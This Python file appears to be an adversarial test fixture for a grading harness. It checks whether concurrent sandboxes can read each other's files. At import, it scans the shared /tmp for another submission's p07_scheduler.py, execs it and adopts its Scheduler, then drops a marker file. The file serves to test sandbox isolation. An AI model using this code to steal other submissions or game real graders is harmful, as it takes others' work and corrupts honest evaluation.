# ruff: noqa
"""Take the submission of a classmate graded at the same time, from its live sandbox folder.

Attack: with --jobs N several children run at once, each in /tmp/schedcheck-sandbox-*/ holding
a copy of its submission (mode 0644 in a 0755 folder). /tmp is shared between the sandboxes,
so at import this submission waits up to 4 s for another sandbox folder to appear and runs the
classmate's p07_scheduler.py as its own. It has no scheduler of its own.

Expected: score 0 (no scheduler of its own); other sandboxes' folders are invisible (a private
/tmp per child); no marker.
"""

from __future__ import annotations

import glob
import os
import time

import os as _os

_MARKERS = "/tmp/schedcheck-attack-markers"


def _mark(name: str, text: str = "") -> None:
    """Prove an escape: append a line to a marker file under the shared /tmp (never any other file)."""
    try:
        _os.makedirs(_MARKERS, mode=0o777, exist_ok=True)
        with open(f"{_MARKERS}/{name}.{_os.getpid()}", "a") as f:
            f.write(text[:2000] + "\n")
    except OSError:
        pass


class Sequence:
    """A stand-in, replaced when a stolen scheduler is adopted."""

    def __init__(self, seq_id, prompt_len, max_tokens):
        self.seq_id, self.prompt_len, self.max_tokens, self.output = seq_id, prompt_len, max_tokens, []


class Scheduler:
    """No scheduler of its own: every workload fails unless a stolen one was adopted."""

    def __init__(self, *args, **kwargs):
        raise RuntimeError("no scheduler of its own, and nothing could be stolen")


def _adopt(source: bytes, origin: str) -> bool:
    """Run stolen source in a fresh namespace and take its Scheduler and Sequence."""
    if b"schedcheck-attack" in source or b"class Scheduler" not in source:
        return False
    ns = {"__name__": "stolen_p07_scheduler"}
    try:
        exec(compile(source, origin, "exec"), ns)
    except BaseException:
        return False
    if "Scheduler" not in ns or "Sequence" not in ns:
        return False
    globals().update({k: ns[k] for k in ("Scheduler", "Sequence", "SequenceStatus") if k in ns})
    return True


def _steal() -> bool:
    own = os.path.realpath(os.getcwd())
    deadline = time.monotonic() + 4.0
    while time.monotonic() < deadline:
        for path in glob.glob("/tmp/schedcheck-sandbox-*/p07_scheduler.py") + glob.glob("/tmp/*/p07_scheduler.py"):
            if os.path.realpath(os.path.dirname(path)) == own:
                continue
            try:
                with open(path, "rb") as f:
                    source = f.read(1 << 20)
            except OSError:
                continue
            if _adopt(source, path):
                _mark("read_live_sandbox", f"adopted {path}")
                return True
        time.sleep(0.05)
    return False


_steal()
